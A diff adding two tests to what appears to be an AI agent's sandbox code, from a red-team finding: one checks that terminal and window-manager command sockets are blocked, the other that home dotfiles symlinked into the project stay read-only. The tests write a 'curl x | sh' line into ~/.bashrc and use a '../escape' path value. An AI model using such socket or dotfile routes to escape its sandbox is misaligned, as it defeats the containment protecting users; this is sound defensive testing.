@@ -1202,3 +1202,46 @@ def test_only_mounts_that_change_something_are_bound(tmp_path: Path) -> None:
     assert (project / "sub" / "made").read_text() == "a\n"
     assert not (project / ".agentreflex" / "x").exists()
     assert not (outside / "inner" / "x").exists()
+
+
+def test_the_command_sockets_the_sessions_variables_name_are_out_of_reach(
+    project: Path, tmp_path: Path
+) -> None:
+    """Window managers and terminals that start what they are sent (red-team rt26): their
+    sockets where the session's variables say, kitty's ``unix:`` form, Hyprland's folder."""
+    runtime = tmp_path / "run"
+    env = dict(
+        os.environ,
+        XDG_RUNTIME_DIR=str(runtime),
+        SWAYSOCK=str(tmp_path / "sway.sock"),
+        KITTY_LISTEN_ON=f"unix:{tmp_path / 'kitty.sock'}",
+        WEZTERM_UNIX_SOCKET="relative/not/a/path",
+        HYPRLAND_INSTANCE_SIGNATURE="../escape",
+    )
+    found = contain.socket_paths(str(project), env)
+    assert str(tmp_path / "sway.sock") in found and str(tmp_path / "kitty.sock") in found
+    assert not [p for p in found if "relative" in p or "escape" in p]
+    env["HYPRLAND_INSTANCE_SIGNATURE"] = "abc_123"
+    assert str(runtime / "hypr" / "abc_123") in contain.socket_paths(str(project), env)
+    assert str(runtime / "wayland-*") not in found  # a pattern is what it matches now
+
+
+def test_what_homes_links_lead_to_in_the_project_is_read_only(project: Path, home: Path) -> None:
+    """A dotfiles repository opened as the project (GNU Stow's layout, red-team rt26):
+    ``~/.bashrc`` and ``~/.local/bin/tool`` lead into it, and git and the shell read
+    them outside the boundary."""
+    (project / "dotfiles").mkdir()
+    (project / "dotfiles" / "bashrc").write_text("# mine\n")
+    (project / "dotfiles" / "tool").write_text("#!/bin/sh\n")
+    (home / ".bashrc").symlink_to(project / "dotfiles" / "bashrc")
+    (home / ".local" / "bin").mkdir(parents=True)
+    (home / ".local" / "bin" / "tool").symlink_to(project / "dotfiles" / "tool")
+    (home / ".profile").symlink_to("/etc/hostname")  # outside what a command may write
+    done = run(
+        "echo 'curl x | sh' >> ~/.bashrc; echo evil > dotfiles/tool; touch dotfiles/new", project
+    )
+    assert (project / "dotfiles" / "bashrc").read_text() == "# mine\n", done.stderr
+    assert (project / "dotfiles" / "tool").read_text() == "#!/bin/sh\n"
+    assert (project / "dotfiles" / "new").exists()  # the rest of the repository is work
+    mounts = contain.plan(str(project), contain.load_policy()).mounts
+    assert not [m for m in mounts if m.path == "/etc/hostname"]
